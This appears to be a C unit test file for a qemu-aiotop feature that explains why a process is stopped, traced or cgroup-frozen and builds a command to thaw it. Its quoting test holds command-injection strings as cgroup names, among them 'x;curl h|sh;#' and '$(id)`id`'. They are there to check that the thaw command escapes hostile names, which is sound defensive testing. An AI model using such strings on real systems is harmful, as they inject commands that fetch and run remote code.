/*
 * Whether a process is halted, and what lets it go on, from a made-up /proc
 *
 * SPDX-License-Identifier: GPL-2.0-or-later
 */

#include <glib.h>
#include <stdbool.h>

#include <qemu-aiotop/host/halted.h>

#include "proc-tree.h"

/* Thread 7 in @state; @wanted is NULL if the process runs */
static void check_halted(char state, const char *wchan, const char *tracer,
                         const char *wanted)
{
    char *root = proc_tree_new();
    const AiotopIdentity process = { 7, PROC_TREE_START };
    const AiotopIdentity earlier = { 7, PROC_TREE_START - 1 };
    const AiotopIdentity none = { 0 };
    const ProcThread thread = {
        .tid = 7, .comm = "qemu", .state = state, .wchan = wchan
    };
    g_autofree char *why = NULL;

    proc_tree_thread(root, 7, &thread);
    proc_tree_thread(root, 12,
                     &(ProcThread){ .tid = 12, .comm = "gdb", .state = 'S' });
    if (tracer) {
        proc_tree_write(root, "7/status", tracer);
    }
    why = aiotop_halted_why(root, &process);
    g_assert_cmpstr(why, ==, wanted);
    g_assert_null(aiotop_halted_why(root, &earlier));
    g_assert_null(aiotop_halted_why(root, &none));
    proc_tree_free(root);
}

static void test_halted(void)
{
    check_halted(
        'T', NULL, NULL,
        "process 7 is stopped by a signal; kill -CONT 7 lets it go on");
    check_halted('t', NULL, "Name:\tqemu\nTracerPid:\t12\n",
                 "process 7 is held by process 12 (gdb), as debuggers do; it"
                 " goes on when they let go");
    check_halted('t', NULL, "Name:\tqemu\nTracerPid:\t13\n",
                 "process 7 is held, as debuggers do; it goes on when they let"
                 " go");
    check_halted('t', NULL, NULL,
                 "process 7 is held, as debuggers do; it goes on when they let"
                 " go");
    check_halted(
        'S', "do_freezer_trap", NULL,
        "process 7 is frozen with its control group; to thaw that group"
        " lets it go on");
    check_halted(
        'S', "get_signal", NULL,
        "process 7 is frozen with its control group; to thaw that group"
        " lets it go on");
    check_halted('T', "get_signal", "Name:\tqemu\nTracerPid:\t0\n",
                 "process 7 is stopped by a signal; kill -CONT 7 lets it go"
                 " on");
    check_halted(
        'D', "__refrigerator", NULL,
        "process 7 is frozen with its control group; to thaw that group"
        " lets it go on");
    check_halted('S', "do_poll", NULL, NULL);
    check_halted('R', NULL, NULL, NULL);
    check_halted('D', "nfs_wait", NULL, NULL);
}

/* Threads 7, 8 and so on of process 7 in these states */
static void check_halted_threads(const char *states, AiotopHaltKind wanted)
{
    char *root = proc_tree_new();
    const AiotopIdentity process = { 7, PROC_TREE_START };
    AiotopHalt halt;

    for (unsigned i = 0; states[i]; i++) {
        proc_tree_thread(
            root, 7,
            &(ProcThread){ .tid = 7 + i, .comm = "x", .state = states[i] });
    }
    halt = aiotop_halted_find(root, &process);
    g_test_message("%s: %d", states, halt.kind);
    g_assert_cmpint(halt.kind, ==, wanted);
    proc_tree_free(root);
}

/* One that runs is enough; one of many that a debugger holds is not */
static void test_halted_threads(void)
{
    check_halted_threads("TTT", AIOTOP_HALT_SIGNAL);
    check_halted_threads("TTS", AIOTOP_HALT_NONE);
    check_halted_threads("STT", AIOTOP_HALT_NONE);
    check_halted_threads("TRT", AIOTOP_HALT_NONE);
    check_halted_threads("ttt", AIOTOP_HALT_TRACED);
    check_halted_threads("Stt", AIOTOP_HALT_NONE);
    /* It stops when it can; nobody says so of one beside a debugger's */
    check_halted_threads("TDT", AIOTOP_HALT_SIGNAL);
    check_halted_threads("DTT", AIOTOP_HALT_SIGNAL);
    check_halted_threads("tDt", AIOTOP_HALT_NONE);
    check_halted_threads("ZTT", AIOTOP_HALT_SIGNAL);
    check_halted_threads("DDD", AIOTOP_HALT_NONE);
}

/* A process that sleeps, in /a/b of the hierarchy of @type */
static char *grouped_process(const char *type, const char *options,
                             const char *line)
{
    char *root = proc_tree_new();
    g_autofree char *mounts = g_strdup_printf(
        "proc /proc proc rw 0 0\nx %s/cg %s %s 0 0\n", root, type, options);

    proc_tree_write(root, "self/mounts", mounts);
    proc_tree_thread(root, 7,
                     &(ProcThread){ .tid = 7, .comm = "x", .state = 'S' });
    proc_tree_write(root, "7/cgroup", line);
    return root;
}

/* @value, written to @file, thaws it; or it is not frozen if NULL */
static void check_frozen(char *root, const char *value, const char *file)
{
    const AiotopIdentity process = { 7, PROC_TREE_START };
    AiotopHalt halt = aiotop_halted_find(root, &process);
    g_autofree char *thaw =
        g_strdup_printf("echo %s > '%s/cg/%s'", value, root, file);

    g_assert_cmpint(halt.kind, ==,
                    value ? AIOTOP_HALT_FROZEN : AIOTOP_HALT_NONE);
    g_assert_cmpstr(halt.thaw, ==, value ? thaw : "");
}

/* The group above it is the one that was frozen */
static void test_frozen(void)
{
    char *root = grouped_process("cgroup2", "rw", "1:cpu:/x\n0::/a/b\n");

    check_frozen(root, NULL, "");
    proc_tree_write(root, "cg/a/b/cgroup.events", "populated 1\nfrozen 0\n");
    check_frozen(root, NULL, "");
    proc_tree_write(root, "cg/a/b/cgroup.events", "populated 1\nfrozen 1\n");
    proc_tree_write(root, "cg/a/b/cgroup.freeze", "1\n");
    check_frozen(root, "0", "a/b/cgroup.freeze");
    proc_tree_write(root, "cg/a/b/cgroup.freeze", "0\n");
    proc_tree_write(root, "cg/a/cgroup.freeze", "1\n");
    check_frozen(root, "0", "a/cgroup.freeze");
    proc_tree_free(root);
}

static void test_frozen_of_old(void)
{
    char *root = grouped_process("cgroup", "rw,relatime,freezer",
                                 "7:cpu,freezer:/a\n0::/b\n");

    proc_tree_write(root, "cg/a/freezer.state", "THAWED\n");
    check_frozen(root, NULL, "");
    proc_tree_write(root, "cg/a/freezer.state", "FROZEN\n");
    proc_tree_write(root, "cg/a/freezer.self_freezing", "1\n");
    check_frozen(root, "THAWED", "a/freezer.state");
    proc_tree_free(root);
}

/* In a group of this name that is frozen, and by itself if @by_itself */
static void check_thaw(const char *name, bool by_itself, const char *quoted)
{
    g_autofree char *line = g_strdup_printf("0::/%s\n", name);
    g_autofree char *events = g_strdup_printf("cg/%s/cgroup.events", name);
    g_autofree char *freeze = g_strdup_printf("cg/%s/cgroup.freeze", name);
    const AiotopIdentity process = { 7, PROC_TREE_START };
    char *root = grouped_process("cgroup2", "rw", line);
    g_autofree char *thaw =
        g_strdup_printf("echo 0 > '%s/cg/%s/cgroup.freeze'", root, quoted);
    AiotopHalt halt;

    proc_tree_write(root, events, "populated 1\nfrozen 1\n");
    proc_tree_write(root, freeze, by_itself ? "1\n" : "0\n");
    halt = aiotop_halted_find(root, &process);
    g_assert_cmpint(halt.kind, ==, AIOTOP_HALT_FROZEN);
    g_assert_cmpstr(halt.thaw, ==, quoted ? thaw : "");
    proc_tree_free(root);
}

/* Who may make a group names it, and somebody else runs the command */
static void test_thaw_is_quoted(void)
{
    g_autofree char *longest = g_strnfill(240, 'a');
    g_autofree char *deep = g_strconcat(longest, "/", longest, NULL);

    check_thaw("machine-qemu\\x2d1.scope", true, "machine-qemu\\x2d1.scope");
    check_thaw("x;curl h|sh;#", true, "x;curl h|sh;#");
    check_thaw("$(id)`id`", true, "$(id)`id`");
    check_thaw("a'b", true, "a'\\''b");
    check_thaw("a\x1b[2Jb", true, NULL);
    check_thaw("a\tb", true, NULL);
    check_thaw("caf\xc3\xa9", true, NULL);
    check_thaw(deep, true, NULL);
}

static void test_thaw_of_no_group(void)
{
    check_thaw("a", false, NULL);
}

/* A container has the group at the root of what it sees */
static void test_thaw_of_root(void)
{
    char *root = grouped_process("cgroup2", "rw", "0::/\n");

    proc_tree_write(root, "cg/cgroup.events", "frozen 1\n");
    proc_tree_write(root, "cg/cgroup.freeze", "1\n");
    check_frozen(root, "0", "cgroup.freeze");
    proc_tree_free(root);
}

int main(int argc, char **argv)
{
    g_test_init(&argc, &argv, NULL);
    g_test_add_func("/halted/halted", test_halted);
    g_test_add_func("/halted/halted-threads", test_halted_threads);
    g_test_add_func("/halted/frozen", test_frozen);
    g_test_add_func("/halted/frozen-of-old", test_frozen_of_old);
    g_test_add_func("/halted/thaw-is-quoted", test_thaw_is_quoted);
    g_test_add_func("/halted/thaw-of-no-group", test_thaw_of_no_group);
    g_test_add_func("/halted/thaw-of-root", test_thaw_of_root);
    return g_test_run();
}
